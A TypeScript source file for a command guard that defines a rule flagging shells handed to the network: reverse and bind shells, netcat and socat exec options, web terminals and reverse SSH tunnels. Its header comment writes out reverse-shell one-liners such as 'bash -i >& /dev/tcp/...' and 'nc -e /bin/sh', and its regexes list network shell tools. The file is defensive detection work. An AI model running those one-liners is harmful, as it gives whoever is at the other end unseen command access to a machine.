/**
 * A shell handed to the network: a shell whose input or output is a socket (`bash -i >& /dev/tcp/h/4444 0>&1`,
 * `<&196` onto an fd an earlier `exec 196<>/dev/tcp/…` opened, zsh's `ztcp` fd), `nc -e /bin/sh`, `ncat
 * --sh-exec`, `socat TCP:… EXEC:sh`, a shell in a pipeline with a network client (`mkfifo f; cat f | sh -i | nc
 * host port > f`), web terminals (`gotty -w bash`, `ttyd bash`), reverse tunnels to another host (`ssh -R
 * 4444:localhost:22 user@elsewhere`), and inline code that joins a socket to a shell. Whoever is at the other end
 * types the commands, and the guard never sees them. Port checks (`nc -z`), plain forwarders (`socat TCP-LISTEN:…
 * TCP:…`) and local tunnels (`ssh -L`) are left alone.
 */
import { isShell } from '../shell/commands.js';
import type { Invocation } from '../shell/invocation.js';
import { staticValue } from '../shell/words.js';
import { LOCAL_HOST, socketRedirect } from './sinks.js';
import type { Rule, RuleContext } from './types.js';

/** Netcat's options that run a program for each connection. */
const NC_EXEC =
  /^(?:-e|-c|--exec|--sh-exec|--lua-exec)$|^-[a-zA-Z]*[ec]$|^-e\/|^--(?:exec|sh-exec|lua-exec)=/;
const NC = new Set(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'pwncat', 'cryptcat']);
/** socat addresses that run a program, and those that reach the network. */
const SOCAT_EXEC = /^(?:EXEC|SYSTEM)[:,]/i;
const SOCAT_NET = /^(?:TCP|UDP|SCTP|SSL|OPENSSL|DCCP)[\w-]*[:,]/i;
/** Network clients that carry a piped shell's input and output. */
const NET_CLIENTS = new Set([...NC, 'telnet', 'socat', 'openssl', 'websocat', 'sbd']);
const WEB_TERMINALS = new Set(['gotty', 'ttyd', 'wetty', 'shellinaboxd']);
const SHELL_WORD = /^(?:\/\S*\/)?(?:ba|z|da|k|c|tc|fi|a)?sh$/;

/** Inline code joining a socket to a shell: `fsockopen(…); exec("/bin/sh -i <&3 …")`, `dup2` + `pty.spawn`. */
const CODE_MARKER = /ock|onnect|\/inet|createServer|WebSocket|socketserver|stream_socket/;
/** Inline code running text it did not write (a socket's data) as a command: the other half of a remote shell. */
const CODE_EXEC_DATA =
  /\bexecSync\(\s*(?![\s'"`])|\bIO\.popen\(\s*[a-z_]|\bshell_exec\(\s*\$|`\$\w|`#\{|\bsystem\s*\$_|\bsystem\s*\(\s*\$|\bspawn\(\s*['"](?:\/bin\/)?(?:ba)?sh['"]|\bsubprocess\.\w+\([^)]*shell\s*=\s*True|\bos\.popen\(\s*[a-z_]|\bcheck_output\(\s*[a-z_]/;
const CODE_SOCKET =
  /\bsocket\s*[.(]|\bSocket\b|\bTCPSocket\b|\bnet\.(?:connect|createConnection|Socket)\b|\bcreateConnection\b|\bfsockopen\b|\bIO::Socket\b|\bsocket\s*\(\s*S(?:OCK|_)|\/inet[46]?\/(?:tcp|udp)\/|\bcreateServer\b|\bWebSocket\b|\bsocketserver\b|\bstream_socket_(?:client|server)\b/;
const CODE_SHELL =
  /["'`](?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh(?:\s+-i)?\b[^"'`]*["'`]|\bpty\.spawn\b|\bdup2\s*\(|\bopen\s*\(\s*STDIN\s*,\s*['"]>&|\.pipe\(\s*\w+\.stdin\s*\)|\bproc_open\b|\bexec\s+['"]?\/bin\/(?:ba)?sh|\bsystem\s*\(\s*[A-Za-z_]\w*\s*\)|\bstdin\s*=\s*[A-Za-z_]\w*(?:\.fileno\(\))?\s*,\s*stdout\s*=/;

/** `coproc nc h p; bash <&"${COPROC[0]}" >&"${COPROC[1]}"`: a shell reading a network client's coprocess pipe. */
function coprocShell(inv: Invocation, ctx: { script?: readonly Invocation[] }): string | false {
  const script = ctx.script ?? [];
  const wired = script.some((i) =>
    i.redirs.some(
      (r) => (r.op === '<&' || r.op === '>&') && r.target !== null && /COPROC/.test(r.target.raw),
    ),
  );
  if (!wired) return false;
  const client = script.find((i) => NET_CLIENTS.has(i.name) || i.name === 'curl' || i.name === 'wget');
  const shell = script.find((i) => isShell(i.name) || i.name === 'exec');
  return client && shell ? `${shell.name} and ${client.name} joined through a coprocess` : false;
}

function ncRunsProgram(inv: Invocation): string | false {
  const a = inv.args.find((x) => NC_EXEC.test(x.value ?? ''));
  return a ? `${inv.name} ${a.value}` : false;
}

function socatShell(inv: Invocation): string | false {
  const vals = inv.args.map((x) => x.value ?? x.text);
  const ex = vals.find((v) => SOCAT_EXEC.test(v));
  return ex && vals.some((v) => SOCAT_NET.test(v)) ? `socat ${ex}` : false;
}

function sshReverse(inv: Invocation): string | false {
  const a = inv.args;
  let reverse: string | null = null;
  let host: string | null = null;
  for (let i = 0; i < a.length; i++) {
    const v = a[i]!.value ?? '';
    if (v === '-R') reverse = a[++i]?.value ?? '?';
    else if (v.startsWith('-R')) reverse = v.slice(2);
    else if (v === '-o' && /^RemoteForward[=\s]/i.test(a[i + 1]?.value ?? '')) reverse = a[++i]!.value!;
    else if (/^-[bcDEeFIiJLlmOopQSWwBP]$/.test(v)) i++;
    else if (!v.startsWith('-') && host === null) host = v;
  }
  if (reverse === null || host === null) return false;
  return LOCAL_HOST.test(host.replace(/^[^@]*@/, '')) ? false : `ssh -R ${reverse} to ${host}`;
}

/** A shell wired to a socket by its redirections, a `ztcp` descriptor, or a network client in its pipeline. */
function shellOnNetwork(inv: Invocation, ctx: RuleContext): string | false {
  const n = inv.name;
  const s = socketRedirect(inv, ctx);
  if (s) return `${n} ↔ ${s}`;
  // zsh's ztcp opens the socket and leaves its fd in $REPLY: `zsh -i <&$REPLY >&$REPLY`
  if (
    inv.redirs.some((r) => (r.op === '<&' || r.op === '>&') && r.target && staticValue(r.target) === null)
  ) {
    const ztcp = (ctx.script ?? []).find(
      (o) =>
        o.name === 'ztcp' &&
        o.args.some((a) => a.value !== null && !a.value.startsWith('-') && !LOCAL_HOST.test(a.value)),
    );
    if (ztcp) return `${n} ↔ ztcp ${ztcp.args.map((a) => a.text).join(' ')}`;
  }
  const peer = [...inv.upstream, ...inv.downstream].find((x) => NET_CLIENTS.has(x.name));
  if (!peer) return false;
  // a shell that reads its commands from the pipe (no -c) serves whoever is at the other end, even on this machine
  const readsPipe = !inv.args.some((x) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(x.value ?? ''));
  return readsPipe || !peer.args.some((a) => LOCAL_HOST.test(a.value ?? '')) ? `${peer.name} ↔ ${n}` : false;
}

export const netShellRules: Rule[] = [
  {
    id: 'exfil.network-shell',
    pack: 'exfil',
    reason:
      'hands a shell to the network (reverse or bind shell, web terminal, reverse tunnel): whoever is at the other end runs commands unseen; ask the user',
    // every command: any interpreter's inline code may join a socket to a shell (the cheap checks come first)
    match: (inv, ctx) => {
      const code = inv.code?.text;
      if (code)
        return CODE_MARKER.test(code) &&
          CODE_SOCKET.test(code) &&
          (CODE_SHELL.test(code) || CODE_EXEC_DATA.test(code))
          ? `${inv.name} ${inv.code!.flag}: socket + shell`
          : false;
      const n = inv.name;
      if (isShell(n)) return shellOnNetwork(inv, ctx) || coprocShell(inv, ctx);
      if (NC.has(n) || n === 'socat') {
        const c = coprocShell(inv, ctx);
        if (c) return c;
      }
      if (NC.has(n)) return ncRunsProgram(inv);
      if (n === 'socat') return socatShell(inv);
      if (n === 'ssh') return sshReverse(inv);
      if (WEB_TERMINALS.has(n)) {
        const sh = inv.args.find(
          (x) => SHELL_WORD.test(x.value ?? '') || /^(?:python\d*|node|perl|ruby)$/.test(x.value ?? ''),
        );
        return sh ? `${n} ${sh.value}` : false;
      }
      return false;
    },
  },
];
